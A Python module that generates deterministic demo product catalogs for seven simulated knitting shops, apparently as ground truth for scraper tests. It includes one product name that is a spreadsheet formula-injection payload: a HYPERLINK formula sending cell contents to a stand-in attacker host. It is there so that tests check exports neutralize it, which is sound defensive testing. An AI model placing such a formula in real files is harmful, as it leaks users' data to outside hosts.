"""Deterministic demo catalogs: the ground truth every demo store renders.

A catalog is a pure function of (site, products, day, seed). Day ``d + 1`` changes some
prices and stock, adds products and removes others, always the same way, so tests and
benchmarks can compare what a spider crawled with what the shop really holds.

The seven shops sell overlapping real products: their yarns are pages of one shared universe
(:mod:`.universe`, written each shop's way by :mod:`.yarns`), their tools and notions come from
one list of (type, brand, material) and (item, brand); every product or colour variant knows the
real product it is (``real``), from which :mod:`.truth` makes ``demo catalog``'s ``match_group``.
Slots 0-5 are the special products every catalog has (``IDX_*``).
"""

from __future__ import annotations

import itertools
from dataclasses import dataclass, field
from decimal import Decimal
from functools import lru_cache

from .catalog_content import _BRANDS_TOOLS, _NEEDLE_SIZES, _NOTION_ITEMS, _TOOLS
from .draws import ean13, money, rng_for, shop_price, slugify
from .universe import Need, YarnPage, families, yarn_pages
from .yarns import Draft, VariantSpec, shows_gtin, yarn_draft


@dataclass(frozen=True)
class SiteProfile:
    """What a shop's platform can express, so the truth never holds what it can't show."""

    site: str
    platform: str  # woocommerce, shopify, prestashop, opencart, magento2, spa, handmade
    language: str  # "el" or "en": the language of most names and descriptions
    currency: str = "EUR"
    price_on_request: bool = True  # can a product have no price at all?
    availabilities: tuple[str, ...] = ("in_stock", "out_of_stock", "backorder")
    variant_availability: bool = True  # does the shop state stock per variant?
    variant_sale: bool = True  # can a single variant be on sale?
    #: Variant prices are the product price plus a per-option delta, and a sale discounts
    #: only the product price (OpenCart's option "+1,00€" on top of a special price).
    option_price_deltas: bool = False
    id_base: int = 1  # the platform's first product id


PROFILES: dict[str, SiteProfile] = {
    p.site: p
    for p in (
        SiteProfile("atmosphere", "woocommerce", "el", id_base=101),
        SiteProfile(
            "sittingknitting",
            "shopify",
            "en",
            price_on_request=False,
            availabilities=("in_stock", "out_of_stock"),
            id_base=7_301_000_000_001,
        ),
        SiteProfile("knitshop", "prestashop", "el", variant_sale=False, id_base=1),
        SiteProfile(
            "ili_ili",
            "opencart",
            "el",
            availabilities=("in_stock", "out_of_stock", "preorder"),
            variant_availability=False,
            variant_sale=False,
            option_price_deltas=True,
            id_base=28,
        ),
        SiteProfile(
            "triskeli",
            "magento2",
            "el",
            price_on_request=False,
            availabilities=("in_stock", "out_of_stock"),
            id_base=2041,
        ),
        SiteProfile("manefa", "spa", "el", availabilities=("in_stock", "out_of_stock"), id_base=1),
        SiteProfile(
            "cityknitting",
            "handmade",
            "el",
            availabilities=("in_stock", "out_of_stock", "preorder"),
            variant_sale=False,
            id_base=1,
        ),
    )
}


@dataclass(frozen=True)
class Category:
    id: int
    slug: str
    name_el: str
    name_en: str
    parent: Category | None = None

    def name(self, language: str) -> str:
        return self.name_el if language == "el" else self.name_en

    def path(self) -> list[Category]:
        """Root first, this category last."""
        return [*(self.parent.path() if self.parent else []), self]


_YARNS = Category(10, "nimata", "Νήματα", "Yarns")
_NEEDLES = Category(20, "velones", "Βελόνες", "Needles")
_HOOKS = Category(30, "velonakia", "Βελονάκια", "Crochet hooks")
_NOTIONS = Category(40, "axesouar", "Αξεσουάρ", "Accessories")
CATEGORIES: tuple[Category, ...] = (
    _YARNS,
    Category(11, "malli", "Μαλλί", "Wool", _YARNS),
    Category(12, "vamvaki", "Βαμβάκι", "Cotton", _YARNS),
    Category(13, "mohair", "Μοχέρ", "Mohair", _YARNS),
    _NEEDLES,
    Category(21, "kyklikes-velones", "Κυκλικές βελόνες", "Circular needles", _NEEDLES),
    Category(22, "isies-velones", "Ίσιες βελόνες", "Straight needles", _NEEDLES),
    _HOOKS,
    _NOTIONS,
)
_CATEGORY_BY_ID = {c.id: c for c in CATEGORIES}


@dataclass(frozen=True)
class DemoVariant:
    variant_id: int
    sku: str
    name: str  # options joined with " / ", as shops title a variant
    options: dict[str, str]
    price: Decimal | None
    regular_price: Decimal | None
    availability: str | None
    real: str | None = None  # the real product this variant is (never shown in a page)


@dataclass(frozen=True)
class DemoProduct:
    index: int  # position in the site's product universe; stable across days
    product_id: str  # the platform's own id (as text)
    numeric_id: int
    slug: str
    sku: str
    gtin: str | None
    brand: str
    kind: str  # yarn, needles, hook, notion
    name: str
    description: str
    attributes: dict[str, str]
    price: Decimal | None  # None: price on request
    regular_price: Decimal | None  # set only while on sale
    availability: str
    categories: tuple[Category, ...]  # the first is the primary one
    images: tuple[str, ...]  # paths relative to the shop root
    variants: tuple[DemoVariant, ...] = ()
    stock_qty: int = 0
    #: The real product a product without variants is, the same key at every shop that sells it
    #: (:mod:`.universe`; notions ``notion/<item-brand>``); ``None`` for a page of colour or size
    #: variants (each variant has its own: tools ``needles/<type-brand-material>/<size>mm``) and the
    #: shop's own yarn.
    #: Never shown in a page: ``demo catalog``'s ``match_group`` is made of it (:mod:`.truth`).
    real: str | None = None

    @property
    def category(self) -> Category:
        return self.categories[0]

    @property
    def on_sale(self) -> bool:
        return self.regular_price is not None


@dataclass(frozen=True)
class Catalog:
    profile: SiteProfile
    day: int
    seed: int
    products: tuple[DemoProduct, ...]
    by_slug: dict[str, DemoProduct] = field(default_factory=dict, compare=False)
    by_id: dict[str, DemoProduct] = field(default_factory=dict, compare=False)

    @property
    def site(self) -> str:
        return self.profile.site

    @property
    def language(self) -> str:
        return self.profile.language

    def in_category(self, category: Category) -> list[DemoProduct]:
        """Products of a category or of any of its subcategories, in catalog order."""
        return [p for p in self.products if any(category in c.path() for c in p.categories)]


#: A product whose name a spreadsheet would run as a formula: exports must neutralize it.
FORMULA_BAIT_NAME = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Merino Deluxe")'

# Indexes of the products every catalog has, whatever its size.
IDX_FORMULA_BAIT = 0
IDX_PRICE_ON_REQUEST = 1
IDX_ON_SALE = 2
IDX_OUT_OF_STOCK = 3
IDX_VARIANTS = 4
IDX_TWO_CATEGORIES = 5
SPECIAL_COUNT = 6


def _yarn_need(profile: SiteProfile, index: int, seed: int) -> Need | None:
    """What slot ``index`` needs from the shop's yarn pages (:mod:`.universe`); ``None``: not a yarn slot."""
    if index == IDX_FORMULA_BAIT:
        return None  # a yarn of the shop's own, named as bait: no real product
    if index == IDX_VARIANTS:
        return "variants"
    if index in (IDX_ON_SALE, IDX_OUT_OF_STOCK):
        return "single"
    if index >= SPECIAL_COUNT and rng_for(seed, profile.site, index, "draft").random() < 0.55:
        return "any"
    return None


#: Tools come in model lines: once a shop has every (type, brand, material), it takes the next line.
_TOOL_MODELS = ("", "Zing", "Dreamz", "Nova", "Basix", "Karbonz")
_MATERIALS = ("Bamboo", "Aluminium", "Birch", "Steel")


@lru_cache(maxsize=16)
def _tool_order(site: str, seed: int) -> tuple[tuple[tuple[str, str, str, int] | None, str, str | None], ...]:
    """Every tool (type, brand, material) and notion (item, brand), in the shop's own order."""
    every: list[tuple[tuple[str, str, str, int] | None, str, str | None]] = [
        (tool, brand, material) for tool in _TOOLS for brand in _BRANDS_TOOLS for material in _MATERIALS
    ]
    every += [(None, brand, f"{n_el}|{n_en}") for n_el, n_en in _NOTION_ITEMS for brand in _BRANDS_TOOLS]
    rng_for(seed, site, "tools").shuffle(every)
    return tuple(every)


def _draft(profile: SiteProfile, index: int, seed: int, page: YarnPage | None, tool_ordinal: int) -> Draft:
    """The product of slot ``index``: a page of the shop's yarns, the shop's own yarn (slot 0), or
    its ``tool_ordinal``-th tool or notion (a shop never sells one twice: see :data:`_TOOL_MODELS`)."""
    rng = rng_for(seed, profile.site, index, "draft")
    el = profile.language == "el"
    if page is not None:
        show = shows_gtin(profile.site, index, seed, index < SPECIAL_COUNT)
        return yarn_draft(profile.site, profile.language, index, page, seed, show_gtin=show)
    if index == IDX_FORMULA_BAIT:
        own = YarnPage(rng.choice(families(seed)), (), True)
        return yarn_draft(profile.site, profile.language, index, own, seed, show_gtin=False)
    order = _tool_order(profile.site, seed)
    cycle, position = divmod(tool_ordinal, len(order))
    tool, brand, what = order[position]
    model = _TOOL_MODELS[cycle] if cycle < len(_TOOL_MODELS) else f"Series {cycle}"
    maker = f"{brand} {model}".strip()
    if tool is not None and what is not None:
        kind, n_el, n_en, cat = tool
        material = what
        name = f"{n_el if el else n_en} {maker} {material}"
        base = shop_price(rng, 4, 22)
        size_key = "Μέγεθος" if el else "Size"
        count = rng.randint(2, 8)
        sizes = sorted(rng.sample(_NEEDLE_SIZES, count), key=lambda s: float(s.replace(",", ".")))
        slug = slugify(f"{n_en} {maker} {material}")
        # Each size is a real product of its own (a 4 mm needle is not a 5 mm one), as each colour of a yarn.
        variants = [
            VariantSpec(
                s.replace(",", ""),
                {size_key: f"{s if el else s.replace(',', '.')} mm"},
                money(base + Decimal(i) * Decimal("0.50")),
                real=f"{kind}/{slug}/{s.replace(',', '.')}mm",
            )
            for i, s in enumerate(sizes)
        ]
        if el:
            description = f"{n_el} {maker} από {material.lower()}. Διαθέσιμα μεγέθη: {', '.join(sizes)} mm."
        else:
            description = (
                f"{n_en} by {maker}, {material.lower()}. Sizes: {', '.join(s.replace(',', '.') for s in sizes)} mm."
            )
        attributes = {("Υλικό" if el else "Material"): material}
        return Draft(kind, brand, name, slug, description, attributes, [cat], base, variants)
    n_el, _, n_en = (what or "|").partition("|")
    name = f"{n_el if el else n_en} {maker}"
    description = (
        f"{n_el} της {maker}, απαραίτητο αξεσουάρ πλεκτικής." if el else f"{n_en} by {maker}, a knitter's essential."
    )
    slug = slugify(f"{n_en} {maker}")
    return Draft("notion", brand, name, slug, description, {}, [40], shop_price(rng, 2, 9), [], real=f"notion/{slug}")


def _present(profile: SiteProfile, index: int, products: int, day: int, seed: int) -> bool:
    """Products ``>= products`` appear from later days; a few others disappear for good."""
    if index >= products:
        added_per_day = max(1, products // 50)
        return index < products + added_per_day * (day - 1)
    if index < SPECIAL_COUNT:
        return True
    return not any(rng_for(seed, profile.site, index, "removed", d).random() < 0.02 for d in range(2, day + 1))


def _day_state(profile: SiteProfile, index: int, day: int, seed: int) -> tuple[Decimal, bool, int]:
    """(price factor, on sale, stock roll) after the changes of days 2..day."""
    rng = rng_for(seed, profile.site, index, "base")
    factor = Decimal(1)
    on_sale = rng.random() < 0.2
    stock_roll = rng.randint(0, 99)
    for d in range(2, day + 1):
        r = rng_for(seed, profile.site, index, "day", d)
        if r.random() < 0.06:
            factor = Decimal(str(r.choice((0.85, 0.9, 0.95, 1.05, 1.1, 1.2))))
        if r.random() < 0.04:
            on_sale = not on_sale
        if r.random() < 0.06:
            stock_roll = r.randint(0, 99)
    return factor, on_sale, stock_roll


def _availability(profile: SiteProfile, stock_roll: int) -> str:
    if stock_roll < 12:
        return "out_of_stock"
    if stock_roll < 16 and len(profile.availabilities) > 2:
        return profile.availabilities[2]
    return "in_stock"


def _build_product(
    profile: SiteProfile, index: int, day: int, seed: int, page: YarnPage | None, tool_ordinal: int
) -> DemoProduct:
    draft = _draft(profile, index, seed, page, tool_ordinal)
    factor, on_sale, stock_roll = _day_state(profile, index, day, seed)
    if index == IDX_ON_SALE:
        on_sale = True
    availability = _availability(profile, stock_roll)
    if index == IDX_OUT_OF_STOCK:
        availability = "out_of_stock"
    elif index in (IDX_FORMULA_BAIT, IDX_VARIANTS, IDX_TWO_CATEGORIES, IDX_PRICE_ON_REQUEST):
        availability = "in_stock"
    name = FORMULA_BAIT_NAME if index == IDX_FORMULA_BAIT else draft.name
    numeric_id = profile.id_base + index * (3 if profile.platform == "woocommerce" else 1)
    slug = f"{draft.slug}-{index}"
    vrng = rng_for(seed, profile.site, index, "variants", day)

    def sale(price: Decimal) -> tuple[Decimal, Decimal | None]:
        if not on_sale:
            return price, None
        return money(price * Decimal("0.8")), price

    variants: list[DemoVariant] = []
    base_now = money(draft.base_price * factor)
    for n, spec in enumerate(draft.variant_specs):
        suffix, options, v_price = spec.suffix, spec.options, spec.price
        if profile.option_price_deltas:
            delta = money((v_price - draft.base_price) * factor)
            sale_base, regular_base = sale(base_now)
            price, regular = sale_base + delta, (regular_base + delta if regular_base is not None else None)
        else:
            price, regular = sale(money(v_price * factor))
        if profile.variant_availability:
            v_avail = (
                "out_of_stock" if availability == "out_of_stock" or (n == 1 and vrng.random() < 0.5) else "in_stock"
            )
            if index == IDX_VARIANTS and n == 1:
                v_avail = "out_of_stock"
        else:
            v_avail = None
        variants.append(
            DemoVariant(
                variant_id=numeric_id * 100 + n + 1,
                sku=f"{profile.site[:3].upper()}-{index:05d}-{suffix}",
                name=" / ".join(options.values()),
                options=options,
                price=price,
                regular_price=regular,
                availability=v_avail,
                real=spec.real,
            )
        )
    if variants and profile.variant_availability:
        availability = "in_stock" if any(v.availability == "in_stock" for v in variants) else "out_of_stock"
    if variants:
        cheapest = min(variants, key=lambda v: (v.price, v.variant_id))
        price, regular = cheapest.price, cheapest.regular_price
    else:
        price, regular = sale(base_now)
    if index == IDX_PRICE_ON_REQUEST and profile.price_on_request:
        price, regular, variants = None, None, []
    categories = [_CATEGORY_BY_ID[c] for c in draft.category_ids]
    if index == IDX_TWO_CATEGORIES or (
        index >= SPECIAL_COUNT and rng_for(seed, profile.site, index, "cat2").random() < 0.05
    ):
        extra = _CATEGORY_BY_ID[40] if categories[0].id != 40 else _CATEGORY_BY_ID[11]
        categories.append(extra)
    gtin = draft.gtin
    if index == IDX_FORMULA_BAIT:  # the shop's own yarn: its own barcode
        gtin = ean13(f"520{numeric_id % 10**9:09d}")
    return DemoProduct(
        index=index,
        product_id=str(numeric_id),
        numeric_id=numeric_id,
        slug=slug,
        sku=f"{profile.site[:3].upper()}-{index:05d}",
        gtin=gtin,
        brand=draft.brand,
        kind=draft.kind,
        name=name,
        description=draft.description,
        attributes=draft.attributes,
        price=price,
        regular_price=regular,
        availability=availability,
        categories=tuple(categories),
        images=(f"media/{slug}.jpg", f"media/{slug}-2.jpg"),
        variants=tuple(variants),
        stock_qty=0 if availability == "out_of_stock" else 3 + stock_roll,
        real=draft.real,
    )


@lru_cache(maxsize=32)
def build_catalog(site: str, products: int = 40, day: int = 1, seed: int = 1) -> Catalog:
    """The catalog of demo shop ``site`` on ``day`` (1-based), with about ``products`` products."""
    if site not in PROFILES:
        raise KeyError(f"unknown demo site {site!r}; known: {', '.join(sorted(PROFILES))}")
    if products < SPECIAL_COUNT:
        raise ValueError(f"a demo catalog needs at least {SPECIAL_COUNT} products, got {products}")
    if day < 1:
        raise ValueError(f"day starts at 1, got {day}")
    profile = PROFILES[site]
    slots = products + max(1, products // 50) * (day - 1)
    pages = yarn_pages(site, products, seed, tuple(_yarn_need(profile, i, seed) for i in range(slots)))
    tool_ordinals = list(
        itertools.accumulate(int(page is None and i != IDX_FORMULA_BAIT) for i, page in enumerate(pages))
    )
    items = tuple(
        _build_product(profile, i, day, seed, pages[i], tool_ordinals[i] - 1)
        for i in range(slots)
        if _present(profile, i, products, day, seed)
    )
    return Catalog(
        profile=profile,
        day=day,
        seed=seed,
        products=items,
        by_slug={p.slug: p for p in items},
        by_id={p.product_id: p for p in items},
    )
